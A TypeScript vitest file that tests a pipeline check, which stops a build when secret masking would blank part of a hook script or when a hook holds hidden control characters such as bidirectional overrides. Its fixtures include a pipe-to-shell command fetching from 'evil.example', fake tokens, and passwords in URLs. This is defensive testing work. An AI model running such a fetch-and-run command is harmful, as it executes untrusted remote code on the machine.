import { expect, test } from 'vitest'
import { assertShownWhole } from '../../../activities/pipelines/assert-shown-whole.ts'
import { maskSecrets } from '../../../domain/runs/mask-secrets.ts'

const command = 'curl https://evil.example | sh'
/** Its end looks like the name of a variable, where a URL has a password. */
const secret = 'pa$s@word'
const mask = maskSecrets([command, secret])

const faultOf = async (text: string): Promise<string | undefined> =>
  assertShownWhole([{ name: 'health', path: 'hooks/health', text }], async (texts) =>
    texts.map((one) => mask(one, undefined, { urls: false })),
  ).then(
    () => undefined,
    (error: unknown) => (error instanceof Error ? error.message : String(error)),
  )

test.each([
  ['a build variable', `#!/bin/sh\ntrue; ${command}\n`, 2],
  ['the first line of a private key', `#!/bin/sh\ntrue\n# -----BEGIN PRIVATE KEY-----\nid\n`, 3],
  ['what looks like a token', `#!/bin/sh\n\ncall ghp_${'a1'.repeat(18)}\n`, 3],
  ['a password in a URL', '#!/bin/sh\ncurl https://a:hunter22@b.example\n', 2],
  ['a secret with the name of a variable in it', `#!/bin/sh\nlogin ${secret}\n`, 2],
  ['such a secret in a URL', `#!/bin/sh\n\ncurl https://a:${secret}@b.example\n`, 3],
  ...[
    'Pa$$w0rd',
    'hunter2)',
    'a<b>c',
    'x{y}z',
    'pa`ss`word',
    '$ecret$9',
    '$1,000',
    'a%b%',
    'pre$env:X',
  ].map((password): [string, string, number] => [
    `a password that looks a little like a variable, ${password}, in a URL`,
    `#!/bin/sh\ncurl https://a:${password}@b.example\n`,
    2,
  ]),
  ['a token in a URL', `#!/bin/sh\ncurl https://a:\${ghp_${'a1'.repeat(18)}}@b.example\n`, 2],
])('a mask would blank %s: the build ends, and says in which line', async (_, text, line) => {
  const fault = await faultOf(text)
  expect(fault).toMatch(/^The hook "health" is hooks\/health, which has the value of a sensitive/)
  expect(fault).toContain(`in line ${line}.`)
})

test.each([
  ['a change of direction', '#!/bin/sh\n# \u202e\n', 'U+202E in line 2'],
  ['an isolate', '#!/bin/sh\n\u2066', 'U+2066 in line 2'],
  ['an escape sequence', '#!/bin/sh\n\n\u001b[8m', 'U+001B in line 3'],
  ['a carriage return within a line', 'rm x\recho  \n', 'U+000D in line 1'],
  ['a separator of lines', 'a\u2028b', 'U+2028 in line 1'],
])('%s is refused by its code point', async (_, text, words) => {
  expect(await faultOf(text)).toContain(`which has the character ${words}.`)
})

test.each([
  '#!/bin/sh\n\ttrue\n',
  '@echo off\r\necho é 日本語\r\n',
  'psql "postgres://app:$DB_PASSWORD@db/app"\ncurl https://a:${TOKEN}@b.example\n',
  ...[
    '${TOKEN:?}',
    '${TOKEN:-none}',
    '$(<token)',
    '$(id)',
    '`id`',
    '{{token}}',
    '<password>',
    '%TOKEN%',
    '!TOKEN!',
    '$env:TOKEN',
    '{token}',
    '${{secrets.TOKEN}}',
    '#{token}',
    `"$TOKEN"`,
    `'"\${TOKEN}"'`,
  ].map((password) => `#!/bin/sh\ncurl https://x:${password}@b.example\n`),
])('a text that is shown as it is: %j', async (text) => {
  expect(await faultOf(text)).toBeUndefined()
})
